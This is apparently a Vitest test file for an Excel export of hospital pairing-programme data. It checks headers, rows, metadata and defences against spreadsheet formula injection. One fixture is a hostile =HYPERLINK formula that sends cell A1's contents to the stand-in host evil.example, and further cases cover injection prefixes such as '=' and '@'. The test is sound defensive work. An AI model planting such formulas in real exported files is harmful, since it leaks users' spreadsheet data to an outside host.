import { mkdir, writeFile } from 'node:fs/promises';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  pairingListFilename,
  pairingListWorkbook,
  safeText,
  XLSX_CONTENT_TYPE,
} from '../../functions/adapters/console-workbook.ts';
import { type PairingListView, pairingList } from '../../functions/use-cases/console-pairings.ts';
import { consoleContext } from '../../functions/use-cases/console-scope.ts';
import { bj, consoleFixture, PROVINCIAL } from '../support/console-fixture.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';
const OUTPUT = new URL('../../test-output/console/', import.meta.url);

let view: PairingListView;
let workbook: ExcelJS.Workbook;
let bytes: Buffer;

beforeAll(async () => {
  const fixture = await consoleFixture();
  await fixture.rename('松溪县医院', HOSTILE);
  const guangze = fixture.pairingIdOf('fj-2021', '光泽县医院');
  await fixture.facts(guangze, 'agreement', 2022, { submittedAt: bj('2022-02-20T10:00').toISOString() });
  await fixture.act(PROVINCIAL, guangze, 'agreement', 2022, { action: 'accept' }, bj('2022-02-21T15:30'));
  const ports = { store: fixture.store };
  view = await pairingList(ports, PROVINCIAL, 'fj-2021', { city: '南平市' }, bj('2022-03-10T09:30'));
  const { staff } = await consoleContext(ports, PROVINCIAL);
  // A search term is the staff member's own input: it reaches the file too.
  bytes = await pairingListWorkbook({ ...view, filters: { ...view.filters, q: '-1+1' } }, staff);
  await mkdir(OUTPUT, { recursive: true });
  await writeFile(new URL(pairingListFilename(view), OUTPUT), bytes);
  workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
});

const texts = (row: ExcelJS.Row) => (row.values as unknown[]).slice(1);

describe('the pairing list as Excel', () => {
  it('is a plain xlsx named for the programme and the day, with Chinese sheet names', () => {
    expect(XLSX_CONTENT_TYPE).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(pairingListFilename(view)).toBe('fj-2021-pairings-2022-03-10.xlsx');
    expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
    expect(bytes.includes(Buffer.from('vbaProject'))).toBe(false);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['结对关系与材料', '导出说明']);
  });

  it('has Chinese headers and one row per pairing and obligation', () => {
    const sheet = workbook.getWorksheet('结对关系与材料') as ExcelJS.Worksheet;
    expect(texts(sheet.getRow(1))).toEqual([
      '序号',
      '地区',
      '县（市、区）',
      '受援单位',
      '牵头支援单位',
      '其他支援单位',
      '类别',
      '任务级别',
      '材料',
      '年度',
      '截止日期',
      '延期至',
      '提交情况',
      '办理状态',
      '提交时间（北京时间）',
      '审核',
      '结对编号',
    ]);
    expect(sheet.rowCount).toBe(1 + 5 * 5);
    const guangze = sheet.getRow(2);
    expect(texts(guangze)).toEqual([
      1,
      '南平市',
      '光泽县',
      '光泽县医院',
      '福建医科大学附属协和医院',
      '—',
      '综合',
      '国家级任务、省级任务',
      '对口帮扶协议书',
      2022,
      '2022-02-28',
      undefined,
      '按时提交',
      '已审核通过',
      '2022-02-20 10:00',
      '2022-02-21 15:30审核通过',
      'fj-2021.fj-guangze-county-hospital',
    ]);
  });

  it('keeps a name that looks like a formula as text, with a leading apostrophe', () => {
    const sheet = workbook.getWorksheet('结对关系与材料') as ExcelJS.Worksheet;
    const cells: ExcelJS.Cell[] = [];
    for (const s of workbook.worksheets) s.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    const hostile = cells.filter((c) => String(c.value).includes('HYPERLINK'));
    expect(hostile.length).toBe(5);
    for (const cell of hostile) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${HOSTILE}`);
    }
    expect(sheet.getColumn(4).values.filter((v) => v === `'${HOSTILE}`)).toHaveLength(5);
  });

  it('says what was exported, by whom, with the filters in words', () => {
    const about = workbook.getWorksheet('导出说明') as ExcelJS.Worksheet;
    const rows = new Map<string, unknown>();
    about.eachRow((row) => rows.set(String(row.getCell(1).value ?? ''), row.getCell(2).value));
    expect(rows.get('方案')).toBe('福建省“十四五”时期三级医院对口帮扶县级医院工作方案（fj-2021）');
    expect(rows.get('统计截至（北京时间）')).toBe('2022-03-10 09:30');
    expect(rows.get('导出人')).toBe('测试管理员（福建省卫生健康委员会）');
    expect(rows.get('筛选条件')).toBe('地区：南平市\n名称包含：-1+1');
    expect(rows.get('行数')).toBe(25);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+86 591', "'+86 591"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['松溪县医院', '松溪县医院'],
    ['＝全角等号', '＝全角等号'],
    ['', ''],
  ])('writes %j as %j', (value, written) => {
    expect(safeText(value)).toBe(written);
  });
});
